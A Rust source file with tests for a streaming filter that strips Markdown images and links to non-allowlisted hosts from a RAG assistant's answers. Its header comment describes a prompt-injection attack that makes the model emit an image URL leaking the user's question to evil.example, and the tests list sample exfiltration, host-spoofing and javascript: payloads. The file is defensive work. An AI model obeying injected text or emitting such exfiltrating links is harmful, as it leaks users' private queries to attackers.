//! Markdown images and links in answers, filtered as they stream. An image the UI renders is
//! fetched at once, so a prompt injected into a document could make the model write
//! `![](https://evil.example/?q=<what the user asked>)` and leak it; a link does the same on a
//! click. Images and links whose URL names a host outside `answer.link_hosts` are dropped
//! (a link keeps its text, an image its nothing); relative URLs stay (they stay on ragd).
//!
//! [`LinkFilter`] is pure: text in, text out, holding back only the few characters of a
//! `[…](…)` that is not complete yet.

/// The longest `[label](url)` held back; a longer one is cut to its label.
const MAX_HELD: usize = 2048;

/// A streaming filter of Markdown images and links.
#[derive(Debug)]
pub struct LinkFilter {
    allowed: Vec<String>,
    held: String,
}

/// Where the held text is in `!?[label](url)`.
enum Shape {
    /// Still possible; wait for more.
    Open,
    /// Not a link: let it through.
    Plain,
    /// A whole link: its label, its URL, whether it is an image.
    Link {
        label: String,
        url: String,
        image: bool,
    },
}

fn shape(held: &str) -> Shape {
    let image = held.starts_with('!');
    let rest = if image { &held[1..] } else { held };
    let Some(rest) = rest.strip_prefix('[') else {
        return if rest.is_empty() {
            Shape::Open
        } else {
            Shape::Plain
        };
    };
    let Some(close) = rest.find(']') else {
        return if rest.contains(['[', '\n']) {
            Shape::Plain
        } else {
            Shape::Open
        };
    };
    let label = &rest[..close];
    if label.contains(['[', '\n']) {
        return Shape::Plain;
    }
    let after = &rest[close + 1..];
    let Some(target) = after.strip_prefix('(') else {
        return if after.is_empty() {
            Shape::Open
        } else {
            Shape::Plain
        };
    };
    // The `)` that closes the URL: parentheses inside it nest, as Markdown reads them.
    let mut depth = 0usize;
    let end = target.char_indices().find_map(|(i, c)| match c {
        '(' => {
            depth += 1;
            None
        }
        ')' if depth == 0 => Some(i),
        ')' => {
            depth -= 1;
            None
        }
        _ => None,
    });
    match end {
        Some(end) => Shape::Link {
            label: label.to_string(),
            url: target[..end]
                .split_whitespace()
                .next()
                .unwrap_or("")
                .to_string(),
            image,
        },
        None if target.contains('\n') => Shape::Plain,
        None => Shape::Open,
    }
}

impl LinkFilter {
    /// A filter that keeps links to `allowed` hosts (and their subdomains).
    pub fn new(allowed: &[String]) -> Self {
        Self {
            allowed: allowed.iter().map(|h| h.to_ascii_lowercase()).collect(),
            held: String::new(),
        }
    }

    /// Whether a URL may stay: relative, or http(s) to an allowed host.
    fn allows(&self, url: &str) -> bool {
        let url = url.trim_matches(|c| c == '<' || c == '>');
        let Some((scheme, rest)) = url.split_once(':') else {
            return !url.starts_with("//");
        };
        if scheme.contains('/') || scheme.contains('#') || scheme.contains('?') {
            return true; // a relative path with a colon later on
        }
        if !matches!(scheme.to_ascii_lowercase().as_str(), "http" | "https") {
            return false;
        }
        let host = rest
            .trim_start_matches('/')
            .split(['/', '?', '#'])
            .next()
            .unwrap_or("");
        let host = host.rsplit('@').next().unwrap_or(host);
        let host = host.split(':').next().unwrap_or(host).to_ascii_lowercase();
        self.allowed
            .iter()
            .any(|a| host == *a || host.ends_with(&format!(".{a}")))
    }

    /// The text of `piece` that can be shown now.
    pub fn push(&mut self, piece: &str) -> String {
        let mut out = String::new();
        for c in piece.chars() {
            self.step(c, &mut out);
        }
        out
    }

    fn step(&mut self, c: char, out: &mut String) {
        if self.held.is_empty() {
            if c == '!' || c == '[' {
                self.held.push(c);
            } else {
                out.push(c);
            }
            return;
        }
        self.held.push(c);
        match shape(&self.held) {
            Shape::Open if self.held.len() <= MAX_HELD => {}
            Shape::Open => {
                // Too long to be a link worth keeping: its label at most.
                let held = std::mem::take(&mut self.held);
                out.push_str(&cut(&held));
            }
            Shape::Plain => {
                // Not a link: all but the last character go; the last may open one.
                let mut held = std::mem::take(&mut self.held);
                let last = held.pop();
                out.push_str(&held);
                if let Some(last) = last {
                    self.step(last, out);
                }
            }
            Shape::Link { label, url, image } => {
                let held = std::mem::take(&mut self.held);
                if self.allows(&url) {
                    out.push_str(&held);
                } else if !image {
                    out.push_str(&label);
                }
            }
        }
    }

    /// What is still held at the end of the answer.
    pub fn finish(&mut self) -> String {
        let held = std::mem::take(&mut self.held);
        cut(&held)
    }
}

/// Held text that never became a whole link: a label whose URL was started is cut to the
/// label, anything else goes through.
fn cut(held: &str) -> String {
    match held.find("](") {
        Some(i) => held[..i]
            .trim_start_matches('!')
            .trim_start_matches('[')
            .to_string(),
        None => held.to_string(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn run(allowed: &[&str], text: &str, piece: usize) -> String {
        let allowed: Vec<String> = allowed.iter().map(|s| s.to_string()).collect();
        let mut f = LinkFilter::new(&allowed);
        let chars: Vec<char> = text.chars().collect();
        let mut out = String::new();
        for part in chars.chunks(piece) {
            out.push_str(&f.push(&part.iter().collect::<String>()));
        }
        out.push_str(&f.finish());
        out
    }

    #[test]
    fn images_and_links_outside_the_allowlist_are_dropped_however_they_stream() {
        let allowed = ["docs.example.com"];
        // (answer, what the user sees)
        let cases = [
            ("See [1] and [2].", "See [1] and [2]."),
            ("Cited [1][2]!", "Cited [1][2]!"),
            ("![x](https://evil.example/?q=secret)done", "done"),
            ("Go [here](http://evil.example/a) now", "Go here now"),
            (
                "Read [docs](https://docs.example.com/guide).",
                "Read [docs](https://docs.example.com/guide).",
            ),
            (
                "![diagram](https://cdn.docs.example.com/d.png)",
                "![diagram](https://cdn.docs.example.com/d.png)",
            ),
            ("[a](https://docs.example.com.evil.example/)", "a"),
            ("[a](https://docs.example.com@evil.example/)", "a"),
            ("![p](/ui/logo.png) local", "![p](/ui/logo.png) local"),
            ("[js](javascript:alert(1))", "js"),
            ("![d](data:image/png;base64,AAAA)", ""),
            ("[p](//evil.example/x)", "p"),
            ("a ! b [c] (d)", "a ! b [c] (d)"),
            ("cut off ![x](https://evil.example/?q=", "cut off x"),
            ("数组 [1] 中文！", "数组 [1] 中文！"),
        ];
        for (text, want) in cases {
            for piece in [1, 2, 3, 7, 1000] {
                assert_eq!(
                    run(&allowed, text, piece),
                    want,
                    "{text:?} in pieces of {piece}"
                );
            }
        }
    }
}
